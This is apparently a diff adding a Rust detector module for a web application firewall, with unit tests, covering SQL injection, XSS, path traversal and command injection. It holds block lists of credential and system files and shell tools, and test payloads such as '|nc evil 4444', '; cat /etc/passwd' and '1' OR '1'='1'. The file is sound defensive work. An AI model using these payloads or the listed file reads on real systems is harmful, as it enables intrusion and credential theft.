@@ -1,0 +1,439 @@
+//! The rule families over one decoded value. SQL injection and XSS are libinjection's
+//! tokenizer and fingerprints (through `libinjectionrs`); path traversal, OS file names and
+//! command injection are small scanners and Aho-Corasick sets built once per config load.
+
+use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
+
+use crate::decode::{self, Decoded};
+use crate::rules::{self, Families, Family, RuleId};
+
+/// Where a value came from: a header injection (CR/LF + header name) or a bad `%` escape
+/// means something in the URL, cookies and headers; in a body it is ordinary text.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum Place {
+    Url,
+    Body,
+}
+
+/// Files and schemes a request has no business naming (matched case-insensitively).
+const OS_FILES: &[&str] = &[
+    "etc/passwd",
+    "etc/shadow",
+    "etc/group",
+    "etc/hosts",
+    "etc/issue",
+    "etc/sudoers",
+    "etc/crontab",
+    "proc/self/",
+    "proc/version",
+    "boot.ini",
+    "win.ini",
+    "system.ini",
+    "windows/system32",
+    "windows\\system32",
+    "winnt/system32",
+    "winnt\\system32",
+    "system32\\config",
+    ".htaccess",
+    ".htpasswd",
+    "web.config",
+    "wp-config.php",
+    ".ssh/id_rsa",
+    ".ssh/id_dsa",
+    ".ssh/id_ed25519",
+    ".ssh/authorized_keys",
+    ".bash_history",
+    ".aws/credentials",
+    ".git/config",
+    ".git/head",
+    "var/log/auth.log",
+    "php://filter",
+    "php://input",
+    "expect://",
+    "phar://",
+    "file:///",
+];
+
+/// Shells and system binaries by path.
+const SHELL_PATHS: &[&str] = &[
+    "/bin/sh",
+    "/bin/bash",
+    "/bin/zsh",
+    "/bin/dash",
+    "/bin/ksh",
+    "/bin/csh",
+    "/bin/cat",
+    "/bin/nc",
+    "/usr/bin/",
+    "/usr/sbin/",
+    "/usr/local/bin/",
+    "/sbin/",
+    "cmd.exe",
+    "powershell.exe",
+    "${ifs}",
+    "$ifs$",
+];
+
+/// Commands that are an attack after a shell separator whatever follows them.
+const STRONG_UNIX: &[&str] = &[
+    "bash", "sh", "zsh", "ksh", "csh", "dash", "nc", "ncat", "netcat", "wget", "curl", "python", "python3", "perl",
+    "ruby", "php", "whoami", "uname", "ifconfig", "passwd", "chmod", "chown", "telnet", "nslookup", "base64", "socat",
+    "sudo", "xterm", "busybox",
+];
+/// Commands that are ordinary words too: an attack after a separator only with an argument
+/// that looks like one (`-la`, `/etc`, `$HOME`), a number for `sleep`/`ping`, or alone after a
+/// spaced separator (`; id`).
+const WEAK_UNIX: &[&str] = &[
+    "cat", "ls", "id", "echo", "ping", "sleep", "find", "head", "tail", "grep", "awk", "sed", "env", "ps", "kill",
+    "touch", "cp", "mv", "more", "less", "sort", "printf", "export", "pwd", "rm", "wc", "uniq", "chgrp", "crontab",
+];
+const STRONG_WINDOWS: &[&str] =
+    &["cmd", "powershell", "pwsh", "ipconfig", "systeminfo", "tasklist", "certutil", "wmic", "bitsadmin"];
+const WEAK_WINDOWS: &[&str] = &["dir", "type", "del", "copy", "net", "reg", "start", "ver", "whoami"];
+
+/// The compiled detectors of one config load.
+#[derive(Debug)]
+pub(crate) struct Detectors {
+    os_files: AhoCorasick,
+    shell_paths: AhoCorasick,
+}
+
+impl Detectors {
+    pub(crate) fn new() -> Self {
+        let build = |patterns: &[&str]| {
+            AhoCorasickBuilder::new()
+                .ascii_case_insensitive(true)
+                .match_kind(MatchKind::LeftmostFirst)
+                .build(patterns)
+                // The constant lists above: a few dozen short patterns always build.
+                .expect("the constant pattern lists build")
+        };
+        Self { os_files: build(OS_FILES), shell_paths: build(SHELL_PATHS) }
+    }
+
+    /// Every family's rules over one decoded value; `hit` gets each rule that matched.
+    pub(crate) fn check(&self, families: Families, value: &Decoded<'_>, place: Place, hit: &mut dyn FnMut(RuleId)) {
+        let text = &*value.text;
+        if families.contains(Family::Protocol) {
+            protocol(value, place, hit);
+        }
+        if families.contains(Family::Sqli) {
+            if sqli(text) {
+                hit(rules::SQLI_LIBINJECTION);
+            }
+            if sql_quote_terminator(text) {
+                hit(rules::SQLI_QUOTE_TERMINATOR);
+            }
+        }
+        if families.contains(Family::Xss) {
+            if libinjectionrs::detect_xss(text.as_bytes()).is_injection() {
+                hit(rules::XSS_LIBINJECTION);
+            }
+            if contains_ignore_case(text.as_bytes(), b"<script") {
+                hit(rules::XSS_SCRIPT_TAG);
+            }
+            if script_uri(text) {
+                hit(rules::XSS_SCRIPT_URI);
+            }
+        }
+        if families.contains(Family::PathTraversal) {
+            if value.overlong || has_dot_dot_segment(text) {
+                hit(rules::PATH_TRAVERSAL);
+            }
+            if self.os_files.is_match(text) {
+                hit(rules::OS_FILE_ACCESS);
+            }
+        }
+        if families.contains(Family::CommandInjection) {
+            if self.shell_paths.is_match(text) {
+                hit(rules::SHELL_PATH);
+            }
+            match command_after_separator(text) {
+                Some(Os::Unix) => hit(rules::UNIX_COMMAND),
+                Some(Os::Windows) => hit(rules::WINDOWS_COMMAND),
+                None => {}
+            }
+        }
+    }
+}
+
+/// A value that no rule can match: one token of letters, digits and `-_.@:,`.
+pub(crate) fn is_plain(raw: &[u8]) -> bool {
+    raw.iter().all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'@' | b':' | b','))
+        && !raw.windows(2).any(|w| w == b"..")
+}
+
+fn sqli(text: &str) -> bool {
+    let prose = is_prose(text);
+    let libinjection = |t: &str| {
+        let result = libinjectionrs::detect_sqli(t.as_bytes());
+        // libinjection's known false positives: a three-token fingerprint (`v&s`, `sos`) over
+        // prose with no SQL punctuation at all, such as `Null and void "quoted"`. An attack
+        // needs an operator, a comment, a parenthesis or a list to do anything.
+        let short = result.fingerprint.as_ref().is_some_and(|f| f.to_string().len() <= 3);
+        result.is_injection() && !(prose && short)
+    };
+    libinjection(text) || decode::strip_sql_comments(text).is_some_and(|s| libinjection(&s))
+}
+
+fn contains_ignore_case(haystack: &[u8], needle: &[u8]) -> bool {
+    haystack.windows(needle.len()).any(|w| w.eq_ignore_ascii_case(needle))
+}
+
+/// `javascript:` or `vbscript:` (blanks inside the scheme ignored, as browsers do) followed by
+/// code: a call, a template, an assignment or a comment — not prose such as
+/// `JavaScript: the good parts`.
+fn script_uri(text: &str) -> bool {
+    let compact: Vec<u8> =
+        text.bytes().filter(|b| !matches!(b, b' ' | b'\t' | b'\n' | b'\r')).map(|b| b.to_ascii_lowercase()).collect();
+    ["javascript:", "vbscript:"].iter().any(|scheme| {
+        let mut from = 0;
+        while let Some(p) = compact[from..].windows(scheme.len()).position(|w| w == scheme.as_bytes()) {
+            let rest = &compact[from + p + scheme.len()..];
+            let ident = rest
+                .iter()
+                .take_while(|b| {
+                    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'$' | b'[' | b']' | b'\'' | b'"')
+                })
+                .count();
+            if matches!(rest.get(ident), Some(b'(' | b'`' | b'=')) || rest.starts_with(b"//") || rest.starts_with(b"/*")
+            {
+                return true;
+            }
+            from += p + scheme.len();
+        }
+        false
+    })
+}
+
+/// Text without any of SQL's operators, comment marks, parentheses, list commas or wildcards.
+fn is_prose(text: &str) -> bool {
+    !text.bytes().any(|b| b"=<>();#*|@\\`%,+-/".contains(&b))
+}
+
+/// A quote closed and followed by a comment that cuts the rest of the query (`admin' #`,
+/// `x' --`), or by `;` and a statement (`1'; SHUTDOWN--`): injections too short for a
+/// libinjection fingerprint.
+fn sql_quote_terminator(text: &str) -> bool {
+    const STATEMENTS: &[&str] = &[
+        "shutdown", "drop", "delete", "insert", "update", "exec", "execute", "declare", "truncate", "alter", "create",
+        "grant", "select", "union", "waitfor", "xp_",
+    ];
+    let bytes = text.as_bytes();
+    bytes.iter().enumerate().filter(|&(_, &b)| b == b'\'' || b == b'"').any(|(i, _)| {
+        let rest = text[i + 1..].trim_start_matches([' ', '\t', ')']);
+        let comment_to_end = ["--", "#", "/*"].iter().any(|c| rest.starts_with(c))
+            && rest.trim_end().len() <= 3
+            && i > 0
+            && bytes[i - 1].is_ascii_alphanumeric();
+        let stacked = rest.strip_prefix(';').is_some_and(|r| {
+            let r = r.trim_start().as_bytes();
+            STATEMENTS.iter().any(|k| r.len() >= k.len() && r[..k.len()].eq_ignore_ascii_case(k.as_bytes()))
+        });
+        comment_to_end || stacked
+    })
+}
+
+fn protocol(value: &Decoded<'_>, place: Place, hit: &mut dyn FnMut(RuleId)) {
+    if value.nul {
+        hit(rules::NUL_BYTE);
+    }
+    if value.full_width {
+        hit(rules::UNICODE_ABUSE);
+    }
+    let text = value.text.as_bytes();
+    if text.iter().any(|&b| b < 0x20 && !matches!(b, b'\t' | b'\n' | b'\r') || b == 0x7f) {
+        hit(rules::CONTROL_CHAR);
+    }
+    if place == Place::Url {
+        if value.bad_encoding {
+            hit(rules::BAD_URL_ENCODING);
+        }
+        if has_header_injection(text) {
+            hit(rules::HEADER_INJECTION);
+        }
+    }
+}
+
+/// A line break followed by `Name:` — a header (or a second request) smuggled into a value.
+fn has_header_injection(text: &[u8]) -> bool {
+    text.iter().enumerate().filter(|&(_, &b)| b == b'\n' || b == b'\r').any(|(i, _)| {
+        let rest = &text[i + 1..];
+        let rest = &rest[rest.iter().take_while(|&&b| matches!(b, b'\r' | b'\n' | b' ' | b'\t')).count()..];
+        let name = rest.iter().take_while(|&&b| b.is_ascii_alphanumeric() || b == b'-').count();
+        name > 0 && rest.get(name) == Some(&b':') || rest.starts_with(b"HTTP/")
+    })
+}
+
+/// A `..` path segment: `../`, `..\`, or a trailing `/..`.
+fn has_dot_dot_segment(text: &str) -> bool {
+    let bytes = text.as_bytes();
+    let mut from = 0;
+    while let Some(pos) = text[from..].find("..").map(|p| p + from) {
+        let before = pos.checked_sub(1).map(|i| bytes[i]);
+        let after = bytes.get(pos + 2).copied();
+        let starts_segment = matches!(before, None | Some(b'/' | b'\\' | b'=' | b'"' | b'\'' | b' ' | b':' | b';'));
+        let slash_after = matches!(after, Some(b'/' | b'\\'))
+            || text[pos + 2..].starts_with(['\u{2215}', '\u{2044}', '\u{29F5}', '\u{FE68}']);
+        let ends_path = after.is_none() && matches!(before, Some(b'/' | b'\\'));
+        if starts_segment && slash_after || ends_path {
+            return true;
+        }
+        from = pos + 2;
+    }
+    false
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Os {
+    Unix,
+    Windows,
+}
+
+fn is_separator(b: u8) -> bool {
+    matches!(b, b';' | b'|' | b'&' | b'`' | b'\n')
+}
+
+/// A shell separator (`;`, `|`, `&`, `&&`, a backtick, `$(`, a newline) followed by a command.
+fn command_after_separator(text: &str) -> Option<Os> {
+    let bytes = text.as_bytes();
+    let mut i = 0;
+    while i < bytes.len() {
+        let b = bytes[i];
+        let substitution = b == b'`' || (b == b'$' && bytes.get(i + 1) == Some(&b'('));
+        if !(is_separator(b) || substitution) {
+            i += 1;
+            continue;
+        }
+        // Past the separator run, spaces and openers.
+        let mut j = i + 1;
+        while j < bytes.len() && (is_separator(bytes[j]) || matches!(bytes[j], b' ' | b'\t' | b'(' | b'{' | b'$')) {
+            j += 1;
+        }
+        let spaced = b == b'\n'
+            || bytes.get(i + 1).is_some_and(|b| *b == b' ' || *b == b'\t')
+            || i.checked_sub(1).is_some_and(|p| bytes[p] == b' ');
+        let word_end = j + bytes[j..]
+            .iter()
+            .take_while(|&&b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'/' | b'\\' | b'-' | b':'))
+            .count();
+        if let Some(os) = command_at(&bytes[j..word_end], &bytes[word_end..], substitution || spaced) {
+            return Some(os);
+        }
+        i = j.max(i + 1);
+    }
+    None
+}
+
+/// Whether `word` (after a separator) is a command, given what `follows` it.
+fn command_at(word: &[u8], follows: &[u8], alone_counts: bool) -> Option<Os> {
+    let base = word.rsplit(|&b| b == b'/' || b == b'\\').next().unwrap_or(word);
+    let base = base.strip_suffix(b".exe").unwrap_or(base);
+    let is = |list: &[&str]| list.iter().any(|c| c.as_bytes().eq_ignore_ascii_case(base));
+    let next = follows.iter().find(|&&b| b != b' ' && b != b'\t').copied();
+    let spaced_arg = follows.first().is_some_and(|&b| b == b' ' || b == b'\t');
+    let ends = next.is_none_or(|b| is_separator(b) || matches!(b, b')' | b'<' | b'>' | b'}'));
+    let argument = spaced_arg
+        && (next.is_some_and(|b| matches!(b, b'-' | b'/' | b'.' | b'~' | b'$' | b'\'' | b'"' | b'\\' | b'%'))
+            || is_drive(follows.trim_ascii_start())
+            || next.is_some_and(|b| b.is_ascii_digit()) && is(&["sleep", "ping"]));
+    let strong_follow = ends || spaced_arg;
+    if is(STRONG_UNIX) && strong_follow {
+        return Some(Os::Unix);
+    }
+    if is(STRONG_WINDOWS) && strong_follow {
+        return Some(Os::Windows);
+    }
+    let weak_follow = argument || (ends && alone_counts);
+    if is(WEAK_UNIX) && weak_follow {
+        return Some(Os::Unix);
+    }
+    if is(WEAK_WINDOWS) && weak_follow {
+        return Some(Os::Windows);
+    }
+    None
+}
+
+fn is_drive(rest: &[u8]) -> bool {
+    matches!(rest, [l, b':', b'\\' | b'/', ..] if l.is_ascii_alphabetic())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn hits(text: &str) -> Vec<u32> {
+        let d = Detectors::new();
+        let mut out = Vec::new();
+        let value = decode::decode(text.as_bytes(), false);
+        d.check(Families::all(), &value, Place::Url, &mut |r| out.push(r.0));
+        out
+    }
+
+    #[test]
+    fn command_separators_need_a_command() {
+        for attack in
+            ["; cat /etc/passwd", "| id", "$(whoami)", "`uname -a`", "&& ls -la", "x;sleep 5", "|nc evil 4444"]
+        {
+            assert!(command_after_separator(attack).is_some(), "{attack}");
+        }
+        for benign in ["Tom & Jerry", "fields=name|id", "R&D; sort by date", "salt & pepper; cat food", "a|b|c"] {
+            assert!(command_after_separator(benign).is_none(), "{benign}");
+        }
+        assert_eq!(command_after_separator("& type c:\\boot.ini"), Some(Os::Windows));
+    }
+
+    #[test]
+    fn dot_dot_segments_not_ellipses() {
+        assert!(has_dot_dot_segment("../../etc"));
+        assert!(has_dot_dot_segment("a/..\\b"));
+        assert!(has_dot_dot_segment("/static/.."));
+        assert!(!has_dot_dot_segment("wait.../what"));
+        assert!(!has_dot_dot_segment("1..10"));
+        assert!(has_dot_dot_segment("..\u{2215}etc"));
+    }
+
+    #[test]
+    fn quote_then_comment_or_statement() {
+        assert!(sql_quote_terminator("admin' #"));
+        assert!(sql_quote_terminator("1'; SHUTDOWN--"));
+        assert!(!sql_quote_terminator("O'Brien #1 fan"));
+        assert!(!sql_quote_terminator("it's 5 o'clock; drop by"));
+    }
+
+    #[test]
+    fn script_uris_need_code() {
+        assert!(script_uri("javascript:alert(1)"));
+        assert!(script_uri("JaVa\tScRiPt:alert`1`"));
+        assert!(!script_uri("JavaScript: the good parts"));
+    }
+
+    #[test]
+    fn prose_with_a_short_fingerprint_is_not_sqli() {
+        assert!(!sqli("Null and void \"double quoted\""));
+        assert!(sqli("1' OR '1'='1"));
+    }
+
+    #[test]
+    fn header_injection_needs_a_header_name() {
+        assert!(has_header_injection(b"x\r\nSet-Cookie: a=b"));
+        assert!(!has_header_injection(b"line one\nline two"));
+    }
+
+    #[test]
+    fn families_report_their_rules() {
+        assert!(hits("1' OR '1'='1").contains(&942100));
+        assert!(hits("<script>alert(1)</script>").contains(&941100));
+        assert!(hits("..%2f..%2fetc%2fpasswd").contains(&930100));
+        assert!(hits("a%00b").contains(&920270));
+        assert!(hits("O'Brien").is_empty());
+    }
+
+    #[test]
+    fn plain_tokens_skip_every_rule() {
+        assert!(is_plain(b"2024-05-01"));
+        assert!(is_plain(b"user@example.com"));
+        assert!(!is_plain(b"a b"));
+        assert!(!is_plain(b".."));
+    }
+}
